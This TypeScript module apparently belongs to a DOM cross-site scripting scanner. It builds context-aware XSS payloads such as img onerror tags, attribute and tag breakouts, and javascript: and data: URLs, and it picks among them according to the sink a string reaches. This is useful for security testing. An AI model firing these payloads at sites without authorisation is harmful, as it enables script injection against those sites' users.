import type { SinkHit } from './watch-sinks.ts';

/** Makes of a function's name a text that calls it when it is run. */
export type Payload = (name: string) => string;

/** An element that calls. */
export const ELEMENT: Payload = (name) => `<img src=x onerror=${name}()>`;
/** What ends the usual surroundings of a text in markup, and an element that calls. */
const MARKUP: Payload = (name) => `'"><img src=x onerror=${name}()>`;
const CLOSING: Payload = (name) =>
  `--></script></style></title></textarea></noscript></template><img src=x onerror=${name}()>`;
const ATTRIBUTE =
  (q: string): Payload =>
  (name) =>
    `x${q} onerror=${q}${name}()${q} onload=${q}${name}()${q} onfocus=${q}${name}()${q} autofocus tabindex=${q}0`;

const CALL: Payload = (name) => `${name}()`;
const BEHIND: Payload = (name) => `1;${name}()//`;
const BEHIND_BRACKET: Payload = (name) => `1);${name}()//`;
const IN_QUOTES =
  (quote: string): Payload =>
  (name) =>
    `${quote}-${name}()-${quote}`;
const BEHIND_QUOTES =
  (quote: string): Payload =>
  (name) =>
    `${quote});${name}()//`;

const ADDRESS: Payload = (name) => `javascript:${name}()`;
/** A script as an address. */
export const SCRIPT_ADDRESS: Payload = (name) => `data:text/javascript,${name}()`;

const CODE_SINKS = new Set(['eval', 'Function', 'setTimeout', 'setInterval', 'script.text', 'event handler']);

const ADDRESS_SINKS = new Set(['location', 'iframe.src', 'href', 'formaction', 'form.action', 'window.open']);

/** What is worth trying at a place where a text of ours arrived, the likeliest first. */
export function payloadsFor({ sink, before }: SinkHit): readonly Payload[] {
  if (CODE_SINKS.has(sink)) return codePayloads(before);
  const isWhole = before.trim() === '';
  if (ADDRESS_SINKS.has(sink)) return isWhole ? [ADDRESS] : [];
  if (sink === 'script.src') return isWhole ? [SCRIPT_ADDRESS] : [];
  // Within a script that is being written.
  const script = before.slice(before.toLowerCase().lastIndexOf('<script'));
  if (/^<script[^>]*>(?![\s\S]*<\/script)/i.test(script)) return [...codePayloads(script), CLOSING];
  const quote = /=\s*(["'])[^"'<>]*$/.exec(before)?.[1];
  return quote === undefined ? [MARKUP, CLOSING] : [MARKUP, ATTRIBUTE(quote)];
}

function codePayloads(before: string): readonly Payload[] {
  const quote = openQuote(before);
  return quote === null ? [CALL, BEHIND, BEHIND_BRACKET] : [IN_QUOTES(quote), BEHIND_QUOTES(quote)];
}

/** The quotation mark within which the code ends. */
function openQuote(code: string): string | null {
  let open: string | null = null;
  for (const sign of code) {
    if (open === null && /["'`]/.test(sign)) open = sign;
    else if (open === sign) open = null;
  }
  return open;
}
